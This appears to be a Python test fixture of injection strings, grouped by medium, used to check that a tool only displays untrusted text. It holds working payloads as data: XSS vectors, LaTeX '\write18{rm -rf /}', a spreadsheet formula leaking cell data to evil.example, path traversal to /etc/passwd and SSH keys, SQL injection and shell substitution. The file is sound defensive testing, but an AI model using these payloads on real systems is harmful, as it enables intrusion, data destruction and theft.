"""Texts that try to act where they are shown, by the medium that they aim at. Every way out is tried with all of them.

They are what a page may hold and what a person may paste. None may do more than be read.
"""

TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H\x1b[31m",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1bP$q\x1b\\ \x9b31m \x90q\x9c \x85 \x84",
    "done\r\x1b[Kpapers: nothing to see",
    "gnp.\u202e\u2066exe\u2069\u200f\u061c",
    "in\u200bvis\u2060ible\ufeff\u00ad\U000e0041\ufff9",
    "[red]x[/red] [link=https://evil.example]x[/link] [/] :smile: [bold",
    "\x08\x08\x7f\x00\x0b\x0c\x1c\x1d\x1e \u2028 \u2029",
    "half \ud800 \udfff none \ufffe \uffff",
    "%s %n {0} {x.__class__} ${HOME} $(id) `id`",
)
"""Escape sequences, C1 controls, overrides of direction, what cannot be seen, markup of rich, formats."""

MARKUP = (
    "<script>window.acted=1</script>",
    "<img src=x onerror=window.acted=1>",
    '"><svg onload=window.acted=1>',
    "' autofocus onfocus=window.acted=1 x='",
    "</script><script>window.acted=1</script>",
    "{{ 7 * 7 }}{% raw %}",
    "\u2028window.acted=1//",
    "<iframe src=javascript:parent.acted=1></iframe>",
)
"""HTML, SVG, JavaScript, and the language of templates."""

LATEX = (
    r"\input{/etc/passwd}",
    r"\write18{rm -rf /}\immediate",
    "}, author = {Nobody}, note = {",
    "{{{ unbalanced",
    "}}} unbalanced",
    "ends with a backslash \\",
    "100% # _ & ~ ^ $ \" ' ` @ < > |",
    "@article{evil, title = {x}}",
    '@comment{ @string{a = {b}} @preamble{"\\input x"}',
    "line\none\r\n\r\ntwo\u2028three\x1b[31m\x00\x07",
    r"$\input{x}$ $}{$ $x^^5c$ $\csname end\endcsname$ $$x$$ $",
    "%\n%}",
    "中文 👍 ﷽ ½ ∑ \U0001d400 e\u0301 \u202e",
    r"^^M \catcode`\%=12 #1 \def\x{\x}\x",
    'a " b "" c',
    "and others and and and",
)
"""LaTeX, BibTeX and biblatex."""

FORMULAS = (
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    'x","=1+1',
)
"""Cells that spreadsheets would run."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    "<javascript:alert(1)> <b onclick=x>y</b>",
    "# heading | cell `code` *a* _b_ ~~c~~ $d$ @someone",
    "]: https://evil.example\n\n[x]: y",
    "x\n\n---\n\n- item\n1. item\n> quote\n```\ncode",
    "https://evil.example www.evil.example &lt;b&gt;",
)
"""Markdown of CommonMark and of GitHub."""

GRAPHS = (
    '"]; a -> b; n1 [URL="javascript:alert(1)", label="',
    '\\N \\G <b>&amp;</b> \\" %%{init: {}}%%',
    '#quot;]; click n1 "javascript:alert(1)"\n  n9',
    "]]> <!-- --> &#0; &b11; <!ENTITY x>",
)
"""DOT, Mermaid and GraphML."""

NAMES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\autoexec.bat",
    "con",
    "aux.txt",
    ".",
    "..",
    ".htaccess",
    "-rf",
    "--output=x",
    "a\nb\0c",
    "a" * 300,
    "~/.ssh/id_rsa",
    "%2e%2e%2fpasswd",
    "x.html",
)
"""Names of files, where a key or a name of a page becomes one."""

QUERIES = (
    "'; DROP TABLE papers; --",
    '" OR 1=1 --',
    '") UNION SELECT text FROM pages --',
    "title:* NEAR(a b, 5) {title abstract} : x ^y",
    "a* AND (b OR c) NOT d - \" ' % _ \\ \0",
    "bench:'x' score:>=1 model:\"%\" author:_ tag:') --",
    "key:../../x page:*?[ source:\x00",
    "$(id) `id` ; id | id && id",
)
"""SQL, the syntax of full-text search, and shells."""

EVERY = (*TERMINAL, *MARKUP, *LATEX, *FORMULAS, *MARKDOWN, *GRAPHS, *NAMES, *QUERIES)
